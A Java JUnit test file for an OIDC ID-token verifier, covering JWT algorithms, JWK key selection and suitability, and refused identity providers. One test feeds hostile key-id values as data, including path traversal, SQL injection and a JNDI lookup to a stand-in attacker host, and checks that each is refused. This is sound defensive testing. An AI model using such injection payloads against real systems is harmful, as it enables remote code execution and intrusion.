package dev.claimsverdict.judge;

import static dev.claimsverdict.verdict.FindingCode.IDP_INACTIVE;
import static dev.claimsverdict.verdict.FindingCode.IDP_UNKNOWN;
import static dev.claimsverdict.verdict.FindingCode.KEYS_UNAVAILABLE;
import static dev.claimsverdict.verdict.FindingCode.OIDC_CLIENT_ID_MISSING;
import static dev.claimsverdict.verdict.FindingCode.OIDC_ISSUER_MISSING;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_ALGORITHM_REFUSED;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_KEY_AMBIGUOUS;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_KEY_NOT_FOUND;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_KEY_UNSUITABLE;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_MALFORMED;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_NOT_OIDC;
import static dev.claimsverdict.verdict.FindingCode.TOKEN_SIGNATURE_INVALID;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.claimsverdict.testing.TestApi;
import dev.claimsverdict.testing.TestIdp;
import dev.claimsverdict.testing.TestKey;
import dev.claimsverdict.testing.TestToken;
import dev.claimsverdict.testing.TokenVerdicts;
import dev.claimsverdict.verdict.FindingCode;
import java.math.BigInteger;
import java.security.spec.RSAKeyGenParameterSpec;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Algorithms and keys (R5.2, R5.3), and the IdPs that have none. */
class TokenKeysTest {

    private static final String KID = "/idToken/header/kid";
    private static final String PAYLOAD = TestToken.claims("pwd", "sms").toString();

    private static ObjectNode request(String token, String... jwks) {
        ObjectNode request = TestToken.request(token);
        ArrayNode keys = request.putObject("jwks").putArray("keys");
        for (String jwk : jwks) {
            keys.add(TestApi.json(jwk));
        }
        return request;
    }

    private static String jwk(TestKey key, Consumer<ObjectNode> change) {
        ObjectNode jwk = TestApi.JSON.valueToTree(key.jwk());
        change.accept(jwk);
        return jwk.toString();
    }

    private static String jwk(TestKey key) {
        return jwk(key, same -> {});
    }

    private static String header(String alg) {
        return "{\"alg\":" + alg + "}";
    }

    @Nested
    @DisplayName("R5.2 Algorithms")
    class Algorithms {

        static Stream<Arguments> algorithms() {
            return Stream.of(
                    arguments("RS256", TestKey.RS256),
                    arguments("RS384", TestKey.RS256),
                    arguments("RS512", TestKey.RS256),
                    arguments("PS256", TestKey.RS256),
                    arguments("PS384", TestKey.RS256),
                    arguments("PS512", TestKey.RS256),
                    arguments("ES256", TestKey.ES256),
                    arguments("ES384", TestKey.ES384),
                    arguments("ES512", TestKey.ES512),
                    arguments("EdDSA", TestKey.ED25519));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("algorithms")
        @DisplayName("each accepted one, with and without alg in the JWK, with and without kid")
        void accepted(String alg, TestKey key) {
            TestKey signer = key.with(alg);
            String bound = jwk(signer);
            String unbound = jwk(signer, jwk -> jwk.remove("alg"));
            for (String jwks : List.of(bound, unbound)) {
                JsonNode named = TokenVerdicts.accepted(request(signer.sign(PAYLOAD), jwks))
                        .path("token");
                assertEquals(alg, named.path("algorithm").asText());
                assertEquals(key.kid(), named.path("keyId").asText());
                String withoutKid = signer.signWithHeader(header("\"" + alg + "\""), PAYLOAD);
                JsonNode unnamed =
                        TokenVerdicts.accepted(request(withoutKid, jwks)).path("token");
                assertEquals(alg, unnamed.path("algorithm").asText());
                assertTrue(unnamed.path("keyId").isNull());
            }
        }

        @ParameterizedTest(name = "header {0}, JWK {1}")
        @CsvSource({"Ed25519,EdDSA", "EdDSA,Ed25519", "Ed25519,Ed25519", "EdDSA,EdDSA"})
        @DisplayName("Ed25519 under both of its names (RFC 8037, RFC 9864)")
        void ed25519(String inHeader, String inJwk) {
            String token = TestKey.ED25519.signWithHeader(header("\"" + inHeader + "\""), PAYLOAD);
            JsonNode verdict =
                    TokenVerdicts.accepted(request(token, jwk(TestKey.ED25519, jwk -> jwk.put("alg", inJwk))));
            assertEquals(inHeader, verdict.at("/token/algorithm").asText());
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("algorithms")
        @DisplayName("the key's own alg binds it, and a key of another type or curve never fits")
        void otherKey(String alg, TestKey key) {
            String token = key.with(alg).signWithHeader(header("\"" + alg + "\""), PAYLOAD);
            for (Arguments other : algorithms().toList()) {
                String otherAlg = (String) other.get()[0];
                TestKey otherKey = (TestKey) other.get()[1];
                if (!otherAlg.equals(alg)) {
                    TokenVerdicts.refused(request(token, jwk(otherKey.with(otherAlg))), TOKEN_KEY_UNSUITABLE, KID);
                }
                if (otherKey != key) {
                    TokenVerdicts.refused(
                            request(token, jwk(otherKey, jwk -> jwk.remove("alg"))), TOKEN_KEY_UNSUITABLE, KID);
                }
            }
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("algorithms")
        @DisplayName("a signature by another algorithm of the same key is none")
        void otherAlgorithm(String alg, TestKey key) {
            String unbound = jwk(key, jwk -> jwk.remove("alg"));
            for (Arguments other : algorithms().toList()) {
                String otherAlg = (String) other.get()[0];
                if (other.get()[1] == key && !otherAlg.equals(alg)) {
                    String token = key.with(alg).signWithHeader(header("\"" + otherAlg + "\""), PAYLOAD);
                    TokenVerdicts.refused(request(token, unbound), TOKEN_SIGNATURE_INVALID, "/idToken");
                }
            }
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(
                strings = {
                    "none",
                    "None",
                    "NONE",
                    "nOnE",
                    "none ",
                    "",
                    "HS256",
                    "HS384",
                    "HS512",
                    "hs256",
                    "rs256",
                    "RS256 ",
                    "RS1",
                    "RS224",
                    "ES224",
                    "ES256K",
                    "ES521",
                    "Ed448",
                    "eddsa",
                    "ED25519",
                    "A256GCMKW",
                    "dir",
                    "RSA-OAEP",
                    "SHA256withRSA",
                    "ML-DSA-44",
                    "ＲＳ２５６"
                })
        @DisplayName("every other word is refused, whatever the key")
        void refused(String alg) {
            for (TestKey key : List.of(TestKey.RS256, TestKey.ES256)) {
                String token = key.signWithHeader(
                        TestApi.JSON.createObjectNode().put("alg", alg).toString(), PAYLOAD);
                ObjectNode request = request(token, jwk(key, jwk -> jwk.put("alg", alg)));
                TokenVerdicts.refused(request, TOKEN_ALGORITHM_REFUSED, "/idToken/header/alg");
                String unsigned = token.substring(0, token.lastIndexOf('.') + 1);
                TokenVerdicts.refused(request.put("idToken", unsigned), TOKEN_ALGORITHM_REFUSED, "/idToken/header/alg");
            }
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(
                strings = {"{}", "{\"alg\":null}", "{\"alg\":256}", "{\"alg\":[\"ES256\"]}", "{\"Alg\":\"ES256\"}"})
        @DisplayName("a header without an alg that is a string is malformed")
        void noAlg(String header) {
            TokenVerdicts.refused(
                    request(TestKey.ES256.signWithHeader(header, PAYLOAD), jwk(TestKey.ES256)),
                    TOKEN_MALFORMED,
                    "/idToken/header/alg");
        }
    }

    @Nested
    @DisplayName("R5.3 Which key")
    class Selection {

        private final String named = TestKey.ES256.sign(PAYLOAD);
        private final String unnamed = TestKey.ES256.signWithHeader(header("\"ES256\""), PAYLOAD);
        private final String suitable = jwk(TestKey.ES256);
        private final String otherType = jwk(TestKey.RS256);
        private final String otherCurve = jwk(TestKey.ES384);
        private final String forEncryption =
                jwk(TestKey.ES256, jwk -> jwk.put("kid", "ec-enc").put("use", "enc"));

        @Test
        @DisplayName("with kid: that key, wherever it stands")
        void byName() {
            JsonNode verdict = TokenVerdicts.accepted(request(named, otherType, suitable, otherCurve));
            assertEquals("ec-1", verdict.at("/token/keyId").asText());
            TokenVerdicts.accepted(request(named, suitable));
        }

        @Test
        @DisplayName("with kid: no other key, though it would fit")
        void notByFit() {
            for (String kid : new String[] {"EC-1", "ec-1 ", "", "ec"}) {
                String renamed = jwk(TestKey.ES256, jwk -> jwk.put("kid", kid));
                TokenVerdicts.refused(request(named, renamed), TOKEN_KEY_NOT_FOUND, KID);
            }
            TokenVerdicts.refused(
                    request(named, jwk(TestKey.ES256, jwk -> jwk.remove("kid"))), TOKEN_KEY_NOT_FOUND, KID);
            TokenVerdicts.refused(request(named), TOKEN_KEY_NOT_FOUND, KID);
        }

        @Test
        @DisplayName("with kid: two keys of that name are refused, even if they are one or one of them can't fit")
        void duplicateKid() {
            TokenVerdicts.refused(request(named, suitable, suitable), TOKEN_KEY_AMBIGUOUS, KID);
            String rsaOfThatName = jwk(TestKey.RS256, jwk -> jwk.put("kid", "ec-1"));
            TokenVerdicts.refused(request(named, suitable, rsaOfThatName), TOKEN_KEY_AMBIGUOUS, KID);
            TokenVerdicts.accepted(request(named, suitable, otherType, otherType));
        }

        @Test
        @DisplayName("without kid: the one suitable key")
        void onlyOne() {
            TokenVerdicts.accepted(request(unnamed, suitable));
            TokenVerdicts.accepted(request(unnamed, otherType, otherCurve, forEncryption, suitable));
            JsonNode verdict = TokenVerdicts.accepted(request(unnamed, suitable));
            assertTrue(verdict.path("token").path("keyId").isNull());
        }

        @Test
        @DisplayName("without kid: two suitable keys are ambiguous")
        void twoSuitable() {
            TokenVerdicts.refused(request(unnamed, suitable, suitable), TOKEN_KEY_AMBIGUOUS, KID);
            String second = jwk(TestKey.ES256, jwk -> jwk.put("kid", "ec-9").remove("alg"));
            TokenVerdicts.refused(request(unnamed, suitable, second), TOKEN_KEY_AMBIGUOUS, KID);
        }

        @Test
        @DisplayName("without kid: none suitable")
        void noneSuitable() {
            TokenVerdicts.refused(request(unnamed), TOKEN_KEY_NOT_FOUND, KID);
            TokenVerdicts.refused(request(unnamed, otherType, otherCurve), TOKEN_KEY_NOT_FOUND, KID);
            TokenVerdicts.refused(request(unnamed, forEncryption), TOKEN_KEY_UNSUITABLE, KID);
            TokenVerdicts.refused(request(unnamed, otherType), TOKEN_KEY_UNSUITABLE, KID);
        }

        @ParameterizedTest
        @ValueSource(strings = {"7", "null", "[\"ec-1\"]", "{}", "true"})
        @DisplayName("a kid that is no string is malformed")
        void kidNoString(String kid) {
            String token = TestKey.ES256.signWithHeader("{\"alg\":\"ES256\",\"kid\":" + kid + "}", PAYLOAD);
            TokenVerdicts.refused(request(token, suitable), TOKEN_MALFORMED, KID);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "../../../../dev/null",
                    "' OR '1'='1",
                    "https://evil.example.net/jwks.json",
                    "ec-1\\u0000",
                    "ec-*",
                    "${jndi:ldap://evil.example.net/a}",
                    "$.keys[0]"
                })
        @DisplayName("a kid is a name and nothing else (RFC 8725 section 3.10)")
        void kidInjection(String kid) {
            String token = TestKey.ES256.signWithHeader("{\"alg\":\"ES256\",\"kid\":\"" + kid + "\"}", PAYLOAD);
            JsonNode verdict = TokenVerdicts.refused(request(token, suitable), TOKEN_KEY_NOT_FOUND, KID);
            assertFalse(verdict.toString().contains(kid));
        }

        @Test
        @DisplayName("a JWKS has at most 100 keys")
        void hundredKeys() {
            String[] jwks = new String[101];
            for (int i = 0; i < jwks.length; i++) {
                jwks[i] = "{\"kty\":\"oct\",\"kid\":\"k" + i + "\"}";
            }
            jwks[99] = suitable;
            String[] hundred = Arrays.copyOf(jwks, 100);
            TokenVerdicts.accepted(request(named, hundred));
            JsonNode answer = TestApi.http(
                    "POST", "/v1/token-verdicts", request(named, jwks).toString());
            assertEquals(422, answer.path("statusCode").asInt());
            assertEquals(
                    "/jwks/keys",
                    TestApi.json(answer.path("body").asText())
                            .at("/errors/0/pointer")
                            .asText());
        }

        @Test
        @DisplayName("no JWKS at all: KEYS_UNAVAILABLE, as no key is ever fetched from where a token says")
        void noJwks() {
            ObjectNode request = TestToken.request(named);
            request.remove("jwks");
            TokenVerdicts.refused(request, KEYS_UNAVAILABLE, "/jwks");
            TokenVerdicts.refused((ObjectNode) request.set("jwks", TestApi.json("null")), KEYS_UNAVAILABLE, "/jwks");
        }
    }

    @Nested
    @DisplayName("R5.3 Which keys may verify")
    class Suitable {

        static Stream<Arguments> changes() {
            return Stream.of(
                    arguments("{\"use\":\"sig\"}", true),
                    arguments("{\"use\":\"enc\"}", false),
                    arguments("{\"use\":\"SIG\"}", false),
                    arguments("{\"use\":\"\"}", false),
                    arguments("{\"use\":null}", false),
                    arguments("{\"use\":[\"sig\"]}", false),
                    arguments("{\"key_ops\":[\"verify\"]}", true),
                    arguments("{\"key_ops\":[\"sign\",\"verify\"]}", true),
                    arguments("{\"key_ops\":[\"sign\"]}", false),
                    arguments("{\"key_ops\":[\"encrypt\",\"wrapKey\"]}", false),
                    arguments("{\"key_ops\":[]}", false),
                    arguments("{\"key_ops\":\"verify\"}", false),
                    arguments("{\"key_ops\":null}", false),
                    arguments("{\"alg\":\"ES256\"}", true),
                    arguments("{\"alg\":\"ES384\"}", false),
                    arguments("{\"alg\":\"ECDH-ES\"}", false),
                    arguments("{\"alg\":\"none\"}", false),
                    arguments("{\"alg\":7}", false),
                    arguments("{\"alg\":null}", false),
                    arguments("{\"d\":\"AAAA\"}", false),
                    arguments("{\"d\":null}", false),
                    arguments("{\"p\":\"AAAA\"}", false),
                    arguments("{\"q\":\"AAAA\"}", false),
                    arguments("{\"dp\":\"AAAA\"}", false),
                    arguments("{\"dq\":\"AAAA\"}", false),
                    arguments("{\"qi\":\"AAAA\"}", false),
                    arguments("{\"oth\":[]}", false),
                    arguments("{\"k\":\"AAAA\"}", false),
                    arguments("{\"x5c\":[\"not a certificate\"],\"x5t\":\"AAAA\",\"other\":{\"a\":[1]}}", true),
                    arguments("{\"x\":null}", false),
                    arguments("{\"x\":7}", false),
                    arguments("{\"x\":\"\"}", false),
                    arguments("{\"y\":\"\"}", false),
                    arguments("{\"y\":\"not base64url\"}", false),
                    arguments("{\"y\":\"AAAA\"}", false),
                    arguments("{\"x\":\"AA\",\"y\":\"AA\"}", false));
        }

        @ParameterizedTest(name = "{0}: {1}")
        @MethodSource("changes")
        @DisplayName("a key with these members")
        void members(String changes, boolean suitable) {
            ObjectNode changed = (ObjectNode) TestApi.json(changes);
            ObjectNode request = request(TestKey.ES256.sign(PAYLOAD), jwk(TestKey.ES256, jwk -> jwk.setAll(changed)));
            if (suitable) {
                TokenVerdicts.accepted(request);
            } else {
                TokenVerdicts.refused(request, TOKEN_KEY_UNSUITABLE, KID);
            }
        }

        static Stream<Arguments> unknownKinds() {
            return Stream.of(
                            "{\"kty\":\"oct\",\"k\":\"AAAA\"}",
                            "{\"kty\":\"AKP\"}",
                            "{\"kty\":\"ec\"}",
                            "{\"kty\":7}",
                            "{\"kty\":null}",
                            "{\"crv\":\"P-192\"}",
                            "{\"crv\":\"secp256k1\"}",
                            "{\"crv\":\"p-256\"}",
                            "{\"crv\":\"Ed25519\"}",
                            "{\"crv\":7}",
                            "{\"crv\":null}",
                            "{\"kty\":\"OKP\"}",
                            "{\"kty\":\"OKP\",\"crv\":\"Ed448\"}",
                            "{\"kty\":\"OKP\",\"crv\":\"X25519\"}")
                    .map(Arguments::arguments);
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("unknownKinds")
        @DisplayName("an unknown kind of key is skipped, and the other keys stay (RFC 7517 section 5)")
        void unknownKind(String changes) {
            ObjectNode changed = (ObjectNode) TestApi.json(changes);
            String unknown = jwk(TestKey.ES256, jwk -> jwk.setAll(changed));
            String token = TestKey.ES256.sign(PAYLOAD);
            TokenVerdicts.refused(request(token, unknown), TOKEN_KEY_NOT_FOUND, KID);
            TokenVerdicts.accepted(request(token, unknown, jwk(TestKey.ES256)));
        }

        @Test
        @DisplayName("an EC key under the name of another curve makes no key, or one that doesn't fit")
        void wrongCurve() {
            String token = TestKey.ES256.sign(PAYLOAD);
            for (String curve : List.of("P-384", "P-521")) {
                TokenVerdicts.refused(
                        request(token, jwk(TestKey.ES256, jwk -> jwk.put("crv", curve))), TOKEN_KEY_UNSUITABLE, KID);
            }
            String asP256 = jwk(
                    TestKey.ES384,
                    jwk -> jwk.put("crv", "P-256").put("alg", "ES256").put("kid", "ec-1"));
            TokenVerdicts.refused(request(token, asP256), TOKEN_KEY_UNSUITABLE, KID);
        }

        @Test
        @DisplayName("an Ed25519 key has 32 octets")
        void ed25519Octets() {
            String token = TestKey.ED25519.sign(PAYLOAD);
            for (String x : List.of("AA", "A".repeat(42), "A".repeat(44))) {
                TokenVerdicts.refused(
                        request(token, jwk(TestKey.ED25519, jwk -> jwk.put("x", x))), TOKEN_KEY_UNSUITABLE, KID);
            }
            TokenVerdicts.accepted(request(token, jwk(TestKey.ED25519)));
        }

        @ParameterizedTest(name = "{0} bits: {1}")
        @CsvSource({"1024, false", "2047, false", "2048, true", "3072, true"})
        @DisplayName("R5.2 RSA keys have at least 2048 bits")
        void rsaBits(int bits, boolean suitable) {
            TestKey key = TestKey.generate(
                    "rsa-" + bits, "RS256", "RSA", new RSAKeyGenParameterSpec(bits, RSAKeyGenParameterSpec.F4));
            ObjectNode request;
            try {
                request = request(key.sign(PAYLOAD), jwk(key));
            } catch (IllegalStateException e) {
                // jose4j doesn't sign with so short a key; the key is refused before any signature is looked at.
                request = request(
                        TestKey.RS256.signWithHeader("{\"alg\":\"RS256\",\"kid\":\"rsa-" + bits + "\"}", PAYLOAD),
                        jwk(key));
            }
            if (suitable) {
                TokenVerdicts.accepted(request);
            } else {
                TokenVerdicts.refused(request, TOKEN_KEY_UNSUITABLE, KID);
            }
        }

        @Test
        @DisplayName("an RSA key has an odd exponent above 2; 3 will do")
        void exponent() {
            TestKey three =
                    TestKey.generate("rsa-3", "RS256", "RSA", new RSAKeyGenParameterSpec(2048, BigInteger.valueOf(3)));
            TokenVerdicts.accepted(request(three.sign(PAYLOAD), jwk(three)));
            String token = TestKey.RS256.sign(PAYLOAD);
            for (String e : List.of("AQ", "Ag", "BA", "AQAA", "AA", "AQAB=")) {
                TokenVerdicts.refused(
                        request(token, jwk(TestKey.RS256, jwk -> jwk.put("e", e))), TOKEN_KEY_UNSUITABLE, KID);
            }
        }

        @Test
        @DisplayName("a private JWK is refused, however well its public half would do")
        void privateJwk() {
            String d = "AbCd".repeat(10);
            JsonNode verdict = TokenVerdicts.refused(
                    request(TestKey.ES256.sign(PAYLOAD), jwk(TestKey.ES256, jwk -> jwk.put("d", d))),
                    TOKEN_KEY_UNSUITABLE,
                    KID);
            assertFalse(verdict.toString().contains(d));
        }
    }

    @Nested
    @DisplayName("IdPs whose tokens can't be verified")
    class NoIdp {

        static Stream<Arguments> idps() {
            Consumer<ObjectNode> inactive = idp -> idp.put("status", "INACTIVE");
            Consumer<ObjectNode> noIssuer = idp -> ((ObjectNode) idp.path("protocol")).remove("issuer");
            Consumer<ObjectNode> noClient = idp -> ((ObjectNode) idp.path("protocol")).remove("credentials");
            Consumer<ObjectNode> saml = idp -> idp.put("type", "SAML2");
            Consumer<ObjectNode> oauth = idp -> ((ObjectNode) idp.path("protocol")).put("type", "OAUTH2");
            return Stream.of(
                    arguments("R2.3 inactive", inactive, IDP_INACTIVE, "/idp/status"),
                    arguments(
                            "inactive comes before all else", inactive.andThen(noIssuer), IDP_INACTIVE, "/idp/status"),
                    arguments("no issuer", noIssuer, OIDC_ISSUER_MISSING, "/idp/protocol/issuer/url"),
                    arguments(
                            "no client id",
                            noClient,
                            OIDC_CLIENT_ID_MISSING,
                            "/idp/protocol/credentials/client/client_id"),
                    arguments(
                            "no issuer comes first",
                            noIssuer.andThen(noClient),
                            OIDC_ISSUER_MISSING,
                            "/idp/protocol/issuer/url"),
                    arguments("SAML2", saml, TOKEN_NOT_OIDC, "/idp/type"),
                    arguments("another protocol, no issuer", oauth.andThen(noIssuer), TOKEN_NOT_OIDC, "/idp/type"));
        }

        @ParameterizedTest(name = "{0} -> {2}")
        @MethodSource("idps")
        @DisplayName("are refused before the token is looked at")
        void refused(String name, Consumer<ObjectNode> change, FindingCode code, String pointer) {
            ObjectNode request = TestToken.request(TestKey.ES256.sign(PAYLOAD), TestKey.ES256);
            ObjectNode idp = TestIdp.oidc();
            change.accept(idp);
            request.set("idp", idp);
            TokenVerdicts.refused(request, code, pointer);
            TokenVerdicts.refused(request.put("idToken", "garbage"), code, pointer);
        }

        @Test
        @DisplayName("an id that this deployment doesn't know")
        void unknown() {
            ObjectNode request = TestToken.request(TestKey.ES256.sign(PAYLOAD), TestKey.ES256);
            request.remove("idp");
            TokenVerdicts.refused(request.put("idpId", "0oa-unknown"), IDP_UNKNOWN, "/idpId");
        }

        @Test
        @DisplayName("a protocol without a type is taken for OIDC's, if it has an issuer")
        void protocolWithoutType() {
            ObjectNode request = TestToken.request(TestKey.ES256.sign(PAYLOAD), TestKey.ES256);
            ((ObjectNode) request.at("/idp/protocol")).remove("type");
            TokenVerdicts.accepted(request);
            ((ObjectNode) request.at("/idp/protocol")).remove("issuer");
            TokenVerdicts.refused(request, OIDC_ISSUER_MISSING, "/idp/protocol/issuer/url");
        }
    }
}
